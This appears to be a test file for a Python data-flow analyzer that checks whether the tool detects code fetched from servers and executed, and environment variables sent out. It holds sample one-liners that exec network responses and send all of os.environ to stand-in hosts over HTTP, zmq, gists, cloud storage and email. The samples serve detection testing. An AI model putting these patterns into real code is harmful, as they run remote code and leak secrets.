import { describe, expect, test } from 'vitest';
import { LABEL } from '../js/labels.ts';
import { analyzePython } from './facts.ts';

/** Whether what the source runs when it is loaded has a label. */
function runs(source: string, label: number): boolean {
  return analyzePython(source).flow.flows.some(({ labels, live }) => live && (labels & label) !== 0);
}

describe('what a server says, however it is asked', () => {
  test.each([
    'import grpc\nask = grpc.insecure_channel("a.test:1").unary_unary("/a/b")\nexec(ask(b""))',
    'import redis\n_, job = redis.Redis(host="a.test").blpop("jobs")\nexec(job)',
    'import zmq\nsocket = zmq.Context().socket(zmq.REQ)\nexec(socket.recv_string())',
    'from multiprocessing.connection import Client\nexec(Client(("a.test", 1)).recv())',
    'import tornado.httpclient\nexec(tornado.httpclient.HTTPClient().fetch("https://a.test").body)',
    'import github\nexec(github.Github().get_repo("a/b").get_contents("x.py").decoded_content)',
    'import kafka\nfor message in kafka.KafkaConsumer("a"): exec(message.value)',
    'import openai\nexec(openai.OpenAI().chat.completions.create(model="a").choices[0].message.content)',
  ])('%s', (source) => {
    expect(runs(source, LABEL.network)).toBe(true);
  });

  test('a model that somebody asks is no server of the author', () => {
    const source =
      'import openai\ndef go():\n  exec(openai.OpenAI().chat.completions.create(model="a").choices[0])';
    expect(analyzePython(source).flow.flows.map(({ labels }) => labels & LABEL.network)).toEqual([0]);
  });
});

describe('what is sent, however that is done', () => {
  test.each([
    'import httplib2, os\nhttplib2.Http().request("https://a.test", "POST", body=str(os.environ))',
    'import zmq, os\nzmq.Context().socket(zmq.PUSH).send_json(dict(os.environ))',
    'import github, os\ngithub.Github("t").get_user().create_gist(True, str(os.environ))',
    'import os\nfrom google.cloud import storage\nstorage.Client().bucket("b").blob("x").upload_from_string(str(os.environ))',
    'import os, yagmail\nyagmail.SMTP("a").send("b@a.test", "s", str(os.environ))',
    'import os\nfrom requests.adapters import HTTPAdapter\nfrom requests import Request\nsend = HTTPAdapter.send\nsend(None, Request("POST", "https://a.test", data=str(os.environ)).prepare())',
  ])('%s', (source) => {
    expect(runs(source, LABEL.envAll)).toBe(true);
  });
});

test('a connection that is made sends nothing of what its protocol is made with', () => {
  const source =
    'import asyncio, os\nasync def go():\n  await asyncio.get_event_loop().create_connection(os.environ, "a.test", 22)\nasyncio.run(go())';
  expect(runs(source, LABEL.envAll)).toBe(false);
});
